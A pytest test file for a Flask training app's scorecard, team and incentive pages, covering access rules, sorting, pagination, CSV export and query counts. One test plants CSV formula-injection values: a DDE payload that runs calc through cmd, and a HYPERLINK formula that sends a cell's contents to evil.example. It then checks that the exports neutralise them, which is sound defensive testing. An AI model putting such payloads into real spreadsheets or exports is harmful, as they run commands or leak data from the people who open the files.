"""Scorecard, team and incentive pages: who sees what, sorting, filters, CSV, query bounds."""

import contextvars
import csv
import io
import re
from datetime import date

import pytest
from flask.testing import FlaskClient

from tests.conftest import login
from tests.scorecards.conftest import GOOD_DAY, follow_pages
from trainer.scorecards import teamcard

NOV = {"period": "month", "on": "2026-11-01"}


def _get(client, path, **params):
    return client.get(path, query_string={**NOV, **params})


@pytest.fixture
def team(team_with_agents, fill_days):
    """A team of three agents with November figures: one strong, one weak, one without data."""
    team, manager, agents = team_with_agents(3)
    strong, weak, _empty = agents
    fill_days(strong, date(2026, 11, 19), 10, **GOOD_DAY)
    fill_days(
        weak,
        date(2026, 11, 19),
        10,
        conversations=40,
        first_response_seconds=95.0,
        csat=3.9,
        resolution_rate=80.0,
        response_rate=92.0,
        repeat_contact_rate=16.0,
    )
    return team, manager, agents


def test_agent_sees_own_scorecard(app, team, frozen_today):
    _team, _manager, (strong, _weak, _empty) = team
    client = app.test_client()
    login(client, strong)
    response = _get(client, "/scorecards/")
    body = response.get_data(as_text=True)
    assert response.status_code == 200
    assert strong.name in body
    assert 'data-kpi="csat"' in body and "<svg" in body  # trend charts
    assert 'data-testid="kpi-composite">100.0' in body  # GOOD_DAY beats every target


def test_agent_cannot_open_someone_elses_scorecard(app, team, frozen_today):
    _team, _manager, (strong, weak, _empty) = team
    client = app.test_client()
    login(client, strong)
    assert client.get(f"/scorecards/agents/{weak.id}").status_code == 403
    assert client.get("/scorecards/team").status_code == 403
    assert client.get(f"/scorecards/incentives/agents/{weak.id}").status_code == 403


def test_manager_sees_team_members_only(app, team, team_with_agents, frozen_today):
    _team, manager, (strong, _weak, _empty) = team
    _other_team, _other_manager, (stranger,) = team_with_agents(1)
    client = app.test_client()
    login(client, manager)
    assert _get(client, f"/scorecards/agents/{strong.id}").status_code == 200
    assert client.get(f"/scorecards/agents/{stranger.id}").status_code == 404
    assert client.get(f"/scorecards/incentives/agents/{stranger.id}").status_code == 404
    body = _get(client, "/scorecards/team").get_data(as_text=True)
    assert strong.email in body and stranger.email not in body
    # An admin-only "team" parameter does not let a manager look elsewhere.
    body = _get(client, "/scorecards/team", team=stranger.team_id).get_data(as_text=True)
    assert stranger.email not in body


def test_team_sort_and_filter(app, team, frozen_today):
    _team, manager, (strong, weak, empty) = team
    client = app.test_client()
    login(client, manager)

    def order(**params):
        body = _get(client, "/scorecards/team", **params).get_data(as_text=True)
        return [line.split('"')[1] for line in body.split("data-agent=")[1:]]

    assert order(sort="composite", dir="desc") == [strong.email, weak.email, empty.email]
    assert order(sort="composite", dir="asc") == [weak.email, strong.email, empty.email]
    assert order(sort="first_response_time", dir="asc")[:2] == [strong.email, weak.email]
    assert order(status="missed") == [weak.email]
    assert order(status="met") == [strong.email]
    assert order(status="nodata") == [empty.email]
    assert order(q=weak.name.upper()) == [weak.email]


def test_long_team_pages_follow_the_cursor(rising_csat_client, monkeypatch):
    """A long team comes a page at a time in the chosen order: ?after=<last agent> gives the
    next page, the pages hold every agent once; sort links and the CSV drop the cursor."""
    monkeypatch.setattr(teamcard, "PAGE_SIZE", 2)
    client, agents = rising_csat_client
    sort = {**NOV, "sort": "csat", "dir": "desc"}
    seen, bodies = follow_pages(client, "/scorecards/team", sort, "team", 3)
    assert all("共 5 名客服" in body for body in bodies)
    assert seen == [a.email for a in reversed(agents)]  # best CSAT first, each agent once
    assert "第 5–5 名，共 5 名客服" in bodies[-1] and 'data-testid="team-first"' in bodies[-1]
    export = re.search(r'href="([^"]+)" data-testid="team-csv"', bodies[1]).group(1)
    assert "after=" not in export and "sort=csat" in export.replace("&amp;", "&")
    assert "after=" not in re.search(r'<a class="sort-link[^>]*href="([^"]+)"', bodies[1]).group(1)
    # the last agent's cursor, or one no longer listed, starts again at the top
    for cursor in (agents[0].id, 999_999):
        body = _get(client, "/scorecards/team", sort="csat", dir="desc", after=cursor)
        assert re.findall(r'<tr data-agent="([^"]+)"', body.get_data(as_text=True)) == seen[:2]


def test_team_csv_export(app, team, frozen_today):
    _team, manager, (strong, weak, _empty) = team
    client = app.test_client()
    login(client, manager)
    response = _get(client, "/scorecards/team.csv", sort="composite", dir="desc")
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert [r["agent_email"] for r in rows][:2] == [strong.email, weak.email]
    assert rows[0]["conversations"] == "800" and rows[0]["kpi_composite"] == "100"
    assert rows[1]["csat"] == "3.9"


def test_team_page_query_count_is_bounded(
    app, team_with_agents, fill_days, count_queries, frozen_today
):
    """The team scorecard issues the same number of queries for 3 agents and for 12."""
    counts = []
    for size in (3, 12):
        _team, manager, agents = team_with_agents(size)
        for agent in agents:
            fill_days(agent, date(2026, 11, 19), 3, **GOOD_DAY)
        client = app.test_client()
        login(client, manager)
        _get(client, "/scorecards/team")  # warm-up (session touch, caches)
        with count_queries() as counter:
            assert _get(client, "/scorecards/team").status_code == 200
        counts.append(counter.count)
    assert counts[0] == counts[1], counts
    assert counts[0] < 40


def test_agent_page_query_count_does_not_grow_with_history(
    app, make_user, fill_days, count_queries, frozen_today
):
    counts = []
    for days in (3, 60):
        agent = make_user("agent")
        fill_days(agent, date(2026, 11, 19), days, **GOOD_DAY)
        client = app.test_client()
        login(client, agent)
        _get(client, "/scorecards/", period="quarter")
        with count_queries() as counter:
            _get(client, "/scorecards/", period="quarter")
        counts.append(counter.count)
    assert counts[0] == counts[1]
    # session, configuration, KPIs of the period and the one before (one statement), daily
    # series, role-play results, enrolments, quiz attempts, quizzes, OKRs, notifications
    assert counts[0] <= 10, counts


def test_incentive_ranking_and_csv(app, team, frozen_today, make_okrs):
    _team, manager, (strong, weak, empty) = team
    make_okrs(strong, "2026-Q4", status="approved", manager=manager)  # no progress: OKR 0.0
    client = app.test_client()
    login(client, manager)
    body = _get(client, "/scorecards/incentives").get_data(as_text=True)
    assert body.index(strong.email) < body.index(weak.email) < body.index(empty.email)
    assert "<svg" in body
    response = _get(client, "/scorecards/incentives.csv")
    rows = {
        r["agent_email"]: r
        for r in csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
    }
    # strong: composite 100, OKR 0.0 → 0.7 × 100 + 0 = 70 × 1.0 (trainee) = 70
    assert rows[strong.email]["incentive_score"] == "70"
    assert rows[strong.email]["rank"] == "1"
    # weak: every KPI at or beyond its floor except response rate 92 (25 points × weight 10);
    # no QA figure, so the weights add up to 85: composite 250 / 85 = 2.94 → 2.9 (scores are
    # rounded once to one decimal, docs/scoring.md), × 0.7 = 2.03 → 2.0
    assert rows[weak.email]["kpi_composite"] == "2.9"
    assert rows[weak.email]["incentive_score"] == "2"
    assert rows[empty.email]["note"] == "no_data" and rows[empty.email]["rank"] == ""


def test_incentive_breakdown_for_the_agent(app, team, frozen_today):
    _team, _manager, (strong, _weak, _empty) = team
    client = app.test_client()
    login(client, strong)
    body = _get(client, "/scorecards/incentives/me").get_data(as_text=True)
    assert 'data-testid="incentive-score">70.0' in body


def test_too_few_conversations_means_no_incentive(app, make_team, make_user, add_kpi, frozen_today):
    manager = make_user("manager")
    team = make_team(None, manager)
    agent = make_user("agent", team=team)
    add_kpi(
        agent,
        date(2026, 11, 3),
        conversations=20,
        **{k: v for k, v in GOOD_DAY.items() if k != "conversations"},
    )
    client = app.test_client()
    login(client, manager)
    rows = list(
        csv.DictReader(
            io.StringIO(
                _get(client, "/scorecards/incentives.csv").get_data(as_text=True).lstrip("\ufeff")
            )
        )
    )
    assert rows[0]["note"] == "too_few_conversations"


def test_admin_chooses_a_team(app, team, team_with_agents, login_as, frozen_today):
    other_team, _m, (stranger,) = team_with_agents(1)
    client, _admin = login_as("admin")
    body = _get(client, "/scorecards/team", team=other_team.id).get_data(as_text=True)
    assert stranger.email in body
    body = _get(client, "/scorecards/incentives", team="all").get_data(as_text=True)
    assert stranger.email in body and team[2][0].email in body


def test_manager_without_team_gets_a_message(app, login_as):
    client, _manager = login_as("manager")
    assert client.get("/scorecards/team").status_code == 200
    assert client.get("/scorecards/incentives").status_code == 200


def test_period_navigation_links(app, team, frozen_today):
    _team, _manager, (strong, _weak, _empty) = team
    client = app.test_client()
    login(client, strong)
    body = _get(client, "/scorecards/", period="week", on="2026-11-18").get_data(as_text=True)
    assert "2026-11-16 – 2026-11-22" in body
    assert "on=2026-11-09" in body and "on=2026-11-23" in body


def test_home_panels(app, team, frozen_today):
    _team, manager, (strong, _weak, _empty) = team
    for user, marker in ((strong, "home-scorecard"), (manager, "home-team-scorecard")):
        client = app.test_client()
        login(client, user)
        assert marker in client.get("/").get_data(as_text=True)


def test_csv_exports_neutralise_formula_cells(app, make_user, make_team, fill_days, frozen_today):
    manager = make_user("manager")
    team = make_team("=cmd|' /C calc'!A0", manager)
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    agent = make_user("agent", team=team, name=name, email="a@example.org")
    fill_days(agent, date(2026, 11, 19), 3, **GOOD_DAY)
    client = app.test_client()
    login(client, manager)
    for path in ("/scorecards/team.csv", "/scorecards/incentives.csv"):
        text = _get(client, path).get_data(as_text=True).lstrip("\ufeff")
        (row,) = csv.DictReader(io.StringIO(text))
        assert row["agent_name"] == "'" + name, path
        if "team" in row:
            assert row["team"] == "'=cmd|' /C calc'!A0", path


def _streamed(client, path):
    """Open `path` unbuffered and read it chunk by chunk inside the request's own context
    (IsolatedClient buffers; this is what a WSGI server does)."""

    def run():
        response = FlaskClient.open(client, path, query_string=NOV, buffered=False)
        try:
            return response.is_streamed, list(response.response)
        finally:
            response.close()

    return contextvars.Context().run(run)


def test_csv_exports_are_streamed(app, team, frozen_today):
    """Both exports are generator responses (flat memory), written line by line: the BOM and
    header, then one chunk per agent."""
    _team, manager, _agents = team
    client = app.test_client()
    login(client, manager)
    for path in ("/scorecards/team.csv", "/scorecards/incentives.csv"):
        streamed, chunks = _streamed(client, path)
        assert streamed, path
        assert chunks[0].startswith("\ufeffagent_email,".encode()) or chunks[0].startswith(
            "\ufeffperiod_start,".encode()
        ), chunks[0]
        assert len(chunks) == 4 and all(c.endswith(b"\r\n") for c in chunks), (path, chunks)
